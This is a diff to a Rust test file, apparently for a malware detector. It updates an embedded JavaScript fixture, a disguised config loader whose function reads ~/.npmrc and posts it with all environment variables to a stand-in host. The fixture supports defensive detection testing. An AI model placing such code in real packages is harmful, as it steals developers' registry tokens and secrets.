@@ -1269,11 +1269,13 @@ fn a_time_bomb_shows_itself_when_the_clock_moves_ahead() {
 
 /// A config loader whose exported function, once called, sends the npm token and the
 /// environment away. Loading it does nothing.
-const CALLED_STEALER_MODULE: &str = r#"exports.load = function load() {
+const CALLED_STEALER_MODULE: &str = r#"exports.load = async function load() {
   const fs = require('fs');
   const os = require('os');
   let npmrc = '';
-  try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+  try { npmrc = await fs.promises.readFile(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+  // The script does not await the promise: the timer keeps the process up for the rest.
+  await new Promise((resolve) => setTimeout(resolve, 300));
   const req = require('https').request({ hostname: 'config-sync.example', path: '/v1', method: 'POST' }, (res) => res.resume());
   req.on('error', () => {});
   req.end(JSON.stringify({ npmrc, env: process.env }));
